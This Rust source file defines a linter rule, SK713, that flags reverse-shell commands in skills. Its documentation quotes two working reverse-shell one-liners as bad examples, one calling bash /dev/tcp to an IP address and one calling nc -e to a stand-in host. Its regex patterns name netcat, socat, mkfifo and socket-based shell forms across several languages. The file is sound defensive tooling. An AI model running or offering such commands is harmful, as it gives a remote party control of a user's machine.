//! SK713: shells that are handed to somebody else.

use super::hosts::{self, Sort};
use super::scan::{Hit, Ledger, Pattern, Round, Tell};
use super::show::shown;
use super::text::Scope;
use super::{body, rule};
use crate::lint::{Docs, Rule};
use crate::report::Level;

pub(super) static RULE: Rule = rule(
    "SK713",
    "reverse-shell",
    Level::Error,
    "a shell is handed to another machine",
    Docs {
        finds: "A shell whose input and output go over the network: `bash -i >& /dev/tcp/…`, `nc -e /bin/sh`, named pipes with `nc`, and the \
                forms of it in Python, Perl, PHP, Ruby, Node, PowerShell, socat, OpenSSL and awk.",
        hurts: "Whoever listens at the other end types commands on the user's machine, as the user.",
        ignore: "A lesson on attacks. Say so in the skill's description and put the command into a block of code; it is then a warning. To \
                 see whether a port is open, use `nc -z`.",
        bad: &[
            body!("```sh\nbash -i >& /dev/tcp/45.61.136.10/4444 0>&1\n```\n"),
            body!("```sh\nnc forms.example 4444 -e /bin/sh\n```\n"),
        ],
        good: &[body!(
            "```sh\nnc -z forms.example 443 && echo open\ntimeout 1 bash -c '</dev/tcp/localhost/5432'\n```\n"
        )],
    },
);

const HELP: &str =
    "to test a connection use `nc -z HOST PORT`; to work on another machine use `ssh`, which asks who one is";

pub(super) const PATTERNS: &[Pattern] = &[
    Pattern {
        triggers: &["/dev/tcp/", "/dev/udp/"],
        scope: Scope::Following(2),
        form: r"(?P<with>(?:(?:ba|z|da|k|c)?sh\s+(?:-\w+\s+)*-\w*[il]\w*|(?:ba|z|k)?sh)\s*(?:\d*[<>]&?\d?\s*)*[<>]&?\s*/dev/(?:tcp|udp)/(?P<host>[^/\s]+)|\bexec\s+\d+<>\s*/dev/(?:tcp|udp)/(?P<host2>[^/\s]+)[^\n]*\n?.{0,200}?(?:(?:ba|z|da)?sh\b|while\s+read|<&\d|cat\s+<&)|/dev/(?:tcp|udp)/(?P<host3>[^/\s]+)/\S+\s*(?:0>&1|0<&1|<&1|2>&1\s*0|\|\s*(?:/bin/)?(?:ba|z|da)?sh\b))",
        needs: &[],
        round: Round::First,
        only: None,
        judge: |hit, ledger| {
            let host = hit.group("host").or(hit.group("host2")).or(hit.group("host3")).unwrap_or_default();
            // Bash can speak HTTP this way; nobody does so in earnest, but it is no shell.
            let speaks = hit.group("host2").is_some()
                && !hit.text().to_lowercase().contains("sh -i")
                && !hit.text().contains("while");
            if speaks && !hit.text().contains("bash") && !hit.text().contains("/sh") {
                if hosts::sort(host) != Sort::Nobody {
                    let message = format!(
                        "opens a connection to `{}` from the shell itself, past every proxy and log",
                        shown(host)
                    );
                    ledger.tell(hit, Tell::new(&RULE, Level::Warning, message, HELP));
                }
                return;
            }
            let message = format!("hands a shell of the user's machine to `{}`", shown(host));
            ledger.tell(hit, Tell::new(&RULE, Level::Error, message, HELP));
        },
    },
    Pattern {
        triggers: &[
            "nc -",
            " nc ",
            "\nnc ",
            "`nc ",
            "|nc ",
            ";nc ",
            "'nc ",
            "\"nc ",
            "&nc ",
            "(nc ",
            "ncat",
            "netcat",
            "nc.exe",
            "nc.traditional",
        ],
        scope: Scope::Statement,
        form: r#"\b(?:nc|ncat|netcat|nc\.exe|nc\.traditional|nc\.openbsd)\s[^|;\n]{0,200}?(?:-\w*[ec]\w*\s+|--exec\s+|--sh-exec\s+)["']?(?:/\S*/)?(?:(?:ba|z|da|k|a)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?|python\d?)\b|\b(?:ba|z|da)?sh\s+-i[^|\n]{0,60}\|\s*(?:nc|ncat|netcat)\s|\b(?:nc|ncat|netcat)\s[^|\n]{0,120}\|\s*(?:/bin/)?(?:ba|z|da)?sh\b"#,
        needs: &[],
        round: Round::First,
        only: None,
        judge: hands_over,
    },
    Pattern {
        triggers: &["mkfifo", "mknod"],
        scope: Scope::Following(3),
        form: r"\b(?:mkfifo|mknod)\s.{0,240}?(?:(?:ba|z|da)?sh\s.{0,120}?\b(?:nc|ncat|netcat|telnet|openssl)\b|\b(?:nc|ncat|netcat|telnet|openssl)\b.{0,120}?\|\s*(?:/bin/)?(?:ba|z|da)?sh\b)",
        needs: &[],
        round: Round::First,
        only: None,
        judge: hands_over,
    },
    Pattern {
        triggers: &["socat", "telnet", "s_client", "/inet/tcp"],
        scope: Scope::Statement,
        form: r#"\bsocat\b[^\n]{0,200}?exec:\s*["']?[^\n"',]{0,60}?(?:sh|cmd)\b|\btelnet\s+\S+\s+\d+\s*\|\s*(?:/bin/)?(?:ba|z)?sh|\bopenssl\s+s_client\b[^\n]{0,200}?\|\s*(?:/bin/)?(?:ba|z)?sh\b|(?:ba|z)?sh\s+-i[^\n]{0,60}\|\s*openssl\s+s_client|/inet/tcp/\d+/[^\n]{0,300}?getline"#,
        needs: &[],
        round: Round::First,
        only: None,
        judge: hands_over,
    },
    Pattern {
        triggers: &[
            "socket",
            "net.connect",
            "createconnection",
            "fsockopen",
            "tcpclient",
            "/bin/sh",
            "/bin/bash",
            "pty.spawn",
            "dup2",
        ],
        scope: Scope::Around(8),
        form: r#"(?:socket\.(?:socket|create_connection)\s*\(.{0,500}?(?:os\.dup2|pty\.spawn|subprocess\.(?:call|popen|run|check_output)\(\s*\[?\s*["'](?:/bin/(?:ba|z)?sh|(?:ba)?sh|cmd|powershell))|use\s+(?:io::)?socket.{0,500}?exec\s*[({]?\s*["'{]?\s*["']?/bin/(?:ba)?sh|fsockopen\s*\(.{0,300}?(?:exec|shell_exec|proc_open|system|popen|passthru)\s*\(|tcpsocket\.(?:new|open)\s*\(?.{0,300}?(?:/bin/(?:ba)?sh|io\.popen|\bexec\b|spawn)|(?:exec|spawn|system)\s*\(?\s*["']/bin/(?:ba)?sh.{0,200}?tcpsocket|net\.(?:connect|createconnection|socket)\s*\(.{0,400}?(?:spawn|exec)\w*\s*\(\s*["'](?:/bin/)?(?:sh|bash|zsh|cmd|powershell)|(?:spawn|exec)\w*\s*\(\s*["'](?:/bin/)?(?:sh|bash|zsh|cmd(?:\.exe)?|powershell(?:\.exe)?)["'].{0,400}?net\.(?:connect|createconnection|socket)|net\.sockets\.tcpclient.{0,900}?(?:\biex\b|invoke-expression|cmd\.exe|getstream\(\).{0,600}?(?:iex|invoke)))"#,
        needs: &[],
        round: Round::First,
        only: None,
        judge: hands_over,
    },
];

fn hands_over(hit: &Hit<'_>, ledger: &mut Ledger<'_>) {
    ledger.tell(hit, Tell::new(&RULE, Level::Error, "hands a shell of the user's machine to whoever answers", HELP));
}
